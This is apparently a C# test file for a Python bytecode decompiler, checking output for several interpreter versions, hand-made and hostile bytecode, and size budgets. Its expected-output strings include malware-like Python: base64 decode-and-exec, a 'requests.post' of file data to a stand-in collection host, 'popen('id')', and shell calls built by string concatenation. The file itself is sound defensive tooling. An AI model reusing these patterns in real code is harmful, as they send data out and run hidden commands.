using System.Text;
using global::Assay.Python.Bytecode;
using global::Assay.Python.Bytecode.Disassembly;
using global::Assay.Python.Parsing;

namespace Assay.Tests.Python.Bytecode.Disassembly;

/// <summary>Bytecode as text: of real interpreters, made by hand, and hostile.</summary>
public sealed class DecompilerTests
{
    private const int MaxBytes = 1 << 20;

    // Numbers of 3.12.
    private const byte LoadName = 101;
    private const byte LoadConst = 100;
    private const byte BinaryOp = 122;
    private const byte Copy = 120;
    private const byte PopTop = 1;
    private const byte UnaryNot = 12;
    private const byte Return = 83;

    public static TheoryData<string> Versions => BytecodeSamples.Versions;

    [Theory]
    [MemberData(nameof(Versions))]
    public void What_a_module_does_can_be_read_in_each_version(string version)
    {
        DecompiledText text = Decompiler.ToSource(BytecodeSamples.Code(version), version, MaxBytes);
        Assert.False(text.IsPartial);
        string[] lines = Lines(text);
        string[] expected =
        [
            "import os",
            "import os.path as places",
            "from base64 import b64decode as plain",
            "KEY = b'\\x01\\xff key'",
            "self.host = host",
            "os.system('echo ' + host)",
            "with open(path, 'rb') as file: pass",
            "data = file.read()",
            "import requests",
            "requests = None",
            "os.system('pip install requests')",
            "left = len(out)",
            "while (left > 3):",
            "left = left - 1",
            "def shift(a, b=1):",
            "return a + b",
            .. version == "2.7"
                ?
                [
                    "class Sender(Base):",
                    "def __init__(self, host, port=80, *rest, **more):",
                    "return requests.post('https://collect.example.invalid', data=data)",
                    "NUMBERS = [1, 2, 3, -4, 5.5, 0x400000000000000000, complex(0.0, 2.0), None, True]",
                    "Sender('h').send(*others, **named)",
                    "print(repr(shift))",
                ]
                : new[]
                {
                    "from urllib import request",
                    "class Sender(Base, metaclass=Meta):",
                    "def __init__(self, host, *rest, port=80, **more):",
                    "self.port = port or 8080",
                    "NUMBERS = [1, 2, 3, -4, 5.5, 0x400000000000000000, complex(0.0, 2.0), None, True, Ellipsis]",
                    "exec(compile(decode(plain('aGk='), KEY), '<string>', 'exec'))",
                    "Sender.send(*others, level=1)",
                    "return __import__('os').popen('id').read()",
                    "async def later(things):",
                    "await held.run(1)",
                    "global counted",
                    "(yield 1)",
                },
        ];
        Assert.All(expected, line => Assert.Contains(line, lines));
        Assert.Contains(version == "2.7" ? "exec(decode(plain('aGk='), KEY)" : "requests.post('https://collect.example.invalid', data=data, headers={'level': str(level)})", text.Text);
    }

    [Theory]
    [MemberData(nameof(Versions))]
    public void Without_a_version_the_text_is_the_same(string version)
    {
        CodeObject code = BytecodeSamples.Code(version);
        Assert.Equal(Decompiler.ToSource(code, version, MaxBytes), Decompiler.ToSource(code, version: null, MaxBytes));
    }

    [Theory]
    [MemberData(nameof(Versions))]
    public void Text_ends_with_its_budget_and_parses_all_the_same(string version)
    {
        CodeObject code = BytecodeSamples.Code(version);
        for (int maxBytes = 0; maxBytes < 2_500; maxBytes += 50)
        {
            DecompiledText text = Decompiler.ToSource(code, version, maxBytes);
            Assert.InRange(Encoding.UTF8.GetByteCount(text.Text), 0, maxBytes + 1_000);
            Assert.True(text.IsPartial || maxBytes > 1_000);
            Lines(text);
        }
    }

    [Theory]
    [InlineData("3.14")]
    [InlineData(null)]
    public void Instructions_of_3_14_are_known_without_an_interpreter_of_it(string? version)
    {
        byte[] instructions =
        [
            128, 0, 94, 0, 82, 0, 73, 0, 116, 0, // import os
            93, 0, 80, 3, .. new byte[18], 82, 1, 52, 1, .. new byte[6], 31, 0, // os.system('id')
            82, 0, 35, 0,
        ];
        CodeObject code = Made(CodeLayout.Python311, instructions, static w => w.Type(')').Raw(2).Type('N').Short("id"), ["os", "system"]);
        DecompiledText text = Decompiler.ToSource(code, version, MaxBytes);
        Assert.False(text.IsPartial);
        Assert.Equal(["import os", "os.system('id')"], Lines(text));
    }

    [Theory]
    [InlineData("3.3")]
    [InlineData("4.0")]
    [InlineData("nonsense")]
    public void Of_a_version_that_is_not_known_names_and_constants_are_listed(string version)
    {
        DecompiledText text = Decompiler.ToSource(BytecodeSamples.Code("3.11"), version, MaxBytes);
        Assert.True(text.IsPartial);
        string[] lines = Lines(text);
        Assert.Contains("'https://collect.example.invalid'", lines);
        Assert.Contains("system", lines);
        Assert.Contains("'pip install requests'", lines);
    }

    [Fact]
    public void An_instruction_that_does_not_exist_leaves_names_and_constants_listed()
    {
        DecompiledText text = Decompiler.ToSource(Made312([LoadName, 0, 200, 0, LoadConst, 0, Return, 0], ["hidden"]), "3.12", MaxBytes);
        Assert.True(text.IsPartial);
        Assert.Equal(["hidden", "'text'"], Lines(text).TakeLast(2));
    }

    [Fact]
    public void What_stands_in_a_cache_is_not_run()
    {
        // LOAD_GLOBAL has four units of cache, the last two look like a load and a pop.
        CodeObject code = Made312([116, 1, 0, 0, 0, 0, LoadName, 1, PopTop, 0, 171, 0, 0, 0, 0, 0, 0, 0, PopTop, 0], ["act", "decoy"]);
        Assert.Equal(["act()"], Lines(Decompiler.ToSource(code, "3.12", MaxBytes)));
    }

    [Fact]
    public void Names_that_cannot_be_written_stay_distinct_and_attributes_keep_theirs()
    {
        CodeObject code = Made312(
            [LoadName, 0, 106, 2, .. new byte[18], 90, 3, LoadConst, 0, 90, 0, LoadName, 2, 96, 1, LoadConst, 0, LoadName, 2, 95, 1, .. new byte[8]], ["a b", "c d", "e", "class"]);
        Assert.Equal(
            ["_class = getattr(_a_20_b, 'c d')", "_a_20_b = 'text'", "delattr(e, 'c d')", "setattr(e, 'c d', 'text')"],
            Lines(Decompiler.ToSource(code, "3.12", MaxBytes)));
    }

    [Fact]
    public void A_module_whose_name_cannot_be_written_is_imported_by_a_call()
    {
        CodeObject code = Made(
            CodeLayout.Python311, [LoadConst, 0, LoadConst, 0, 108, 0, 90, 1], static w => w.Type(')').Raw(1).Type('N'), ["a-b", "x"]);
        Assert.Equal(["x = __import__('a-b')"], Lines(Decompiler.ToSource(code, "3.12", MaxBytes)));
    }

    [Fact]
    public void A_value_that_doubles_ten_thousand_times_takes_ten_thousand_lines_at_most()
    {
        byte[] step = [Copy, 1, BinaryOp, 0, 0, 0];
        CodeObject code = Made312([LoadName, 0, .. Enumerable.Repeat(step, 10_000).SelectMany(static one => one), PopTop, 0], ["x"]);
        DecompiledText text = Decompiler.ToSource(code, "3.12", MaxBytes);
        Assert.InRange(Lines(text).Length, 1, 10_001);
        Assert.InRange(text.Text.Length, 1, 500_000);
    }

    [Fact]
    public void A_hundred_thousand_operators_within_one_another_parse()
    {
        CodeObject code = Made312([LoadName, 0, .. Enumerable.Repeat(new[] { UnaryNot, (byte)0 }, 100_000).SelectMany(static one => one), 90, 0], ["x"]);
        Assert.False(Decompiler.ToSource(code, "3.12", MaxBytes).IsPartial);
        Lines(Decompiler.ToSource(code, "3.12", MaxBytes));
    }

    [Theory]
    [InlineData((byte)102)]
    [InlineData((byte)103)]
    [InlineData((byte)104)]
    public void Ten_thousand_displays_within_one_another_parse(byte build)
    {
        CodeObject code = Made312([LoadName, 0, .. Enumerable.Repeat(new[] { build, (byte)1 }, 10_000).SelectMany(static one => one), 90, 0], ["x"]);
        Lines(Decompiler.ToSource(code, "3.12", MaxBytes));
    }

    [Fact]
    public void Ten_thousand_lists_that_each_hold_the_one_before_parse()
    {
        // BUILD_LIST 0, SWAP 2, LIST_APPEND 1.
        byte[] step = [103, 0, 99, 2, 145, 1];
        CodeObject code = Made312([LoadName, 0, .. Enumerable.Repeat(step, 10_000).SelectMany(static one => one), 90, 0], ["x"]);
        Lines(Decompiler.ToSource(code, "3.12", MaxBytes));
    }

    [Fact]
    public void Millions_of_instructions_end_with_the_budget()
    {
        byte[] instructions = new byte[16 << 20];
        for (int i = 0; i < instructions.Length; i += 4)
        {
            (instructions[i], instructions[i + 2]) = (LoadName, UnaryNot);
        }

        DecompiledText text = Decompiler.ToSource(Made312(instructions, ["x"]), null, MaxBytes);
        Assert.True(text.IsPartial);
        Assert.InRange(text.Text.Length, 1, MaxBytes);
        Lines(text);
    }

    [Fact]
    public void Code_that_holds_other_code_twice_on_sixty_levels_ends_with_the_budget()
    {
        MarshalWriter writer = new();
        void Constants(MarshalWriter w, int level)
        {
            if (level == 60)
            {
                w.Type(')').Raw(1).Type('N');
                return;
            }

            w.Type(')').Raw(2);
            w.Type((char)('c' | 0x80));
            byte[] inner = new MarshalWriter().Code(CodeLayout.Python311, [], one => Constants(one, level + 1), [], name: "f").ToArray();
            w.Raw(inner.AsSpan(1)).Type('r').Int(level);
        }

        byte[] data = writer.Code(CodeLayout.Python311, [], one => Constants(one, 0), []).ToArray();
        CodeObject code = BytecodeReader.ReadMarshalled(data, new MarshalLimits(MaxDepth: 1_000)).Code!;
        DecompiledText text = Decompiler.ToSource(code, "3.12", 50_000);
        Assert.True(text.IsPartial);
        Lines(text);
    }

    [Theory]
    [InlineData(new byte[] { LoadName, 0, LoadName, 0, 133, 0, 25, 0, 0, 0, 90, 0 })]
    [InlineData(new byte[] { 26, 0, 90, 0 })]
    [InlineData(new byte[] { LoadConst, 0, LoadName, 0, 145, 2, 145, 1 })]
    [InlineData(new byte[] { 144, 255, 144, 255, 144, 255, LoadConst, 255, 144, 255, 144, 255, 144, 255, 102, 255, 90, 0 })]
    [InlineData(new byte[] { LoadName, 0, 144, 1, 105, 0, LoadName, 0, 165, 1, LoadName, 0, LoadName, 0, 142, 1 })]
    [InlineData(new byte[] { 110, 255, 93, 255, 140, 255, 114, 0, 129, 9, 123, 1 })]
    public void Instructions_that_no_compiler_writes_become_Python_all_the_same(byte[] instructions)
    {
        foreach (string? version in new[] { "2.7", "3.8", "3.10", "3.11", "3.12", "3.13", "3.14", "3.15", null })
        {
            Lines(Decompiler.ToSource(Made312(instructions, ["x"]), version, MaxBytes));
        }
    }

    [Fact]
    public void Code_that_no_instruction_uses_is_shown()
    {
        CodeObject code = Made(
            CodeLayout.Python311,
            [LoadConst, 0, Return, 0],
            static w => w.Type(')').Raw(2).Type('N').Code(CodeLayout.Python311, [LoadName, 0, 106, 2, .. new byte[18], PopTop, 0], static inner => inner.Type(')').Raw(0), ["os", "abort"], name: "unused"),
            []);
        Assert.Equal(["def _unused_1():", "os.abort"], Lines(Decompiler.ToSource(code, "3.12", MaxBytes)));
    }

    private static CodeObject Made312(byte[] instructions, string[] names) =>
        Made(CodeLayout.Python311, instructions, static w => w.Type(')').Raw(1).Short("text"), names);

    private static CodeObject Made(CodeLayout layout, byte[] instructions, Action<MarshalWriter> constants, string[] names)
    {
        BytecodeReading reading = BytecodeReader.ReadMarshalled(new MarshalWriter().Code(layout, instructions, constants, names).ToArray(), MarshalLimits.Default);
        Assert.Null(reading.Problem);
        return reading.Code!;
    }

    // Whatever the code is, its text is Python.
    private static string[] Lines(DecompiledText text)
    {
        Assert.Empty(Parser.ParseModule(Encoding.UTF8.GetBytes(text.Text), ParserLimits.Default).Errors);
        return [.. text.Text.Split('\n', StringSplitOptions.RemoveEmptyEntries).Select(static line => line.Trim())];
    }
}
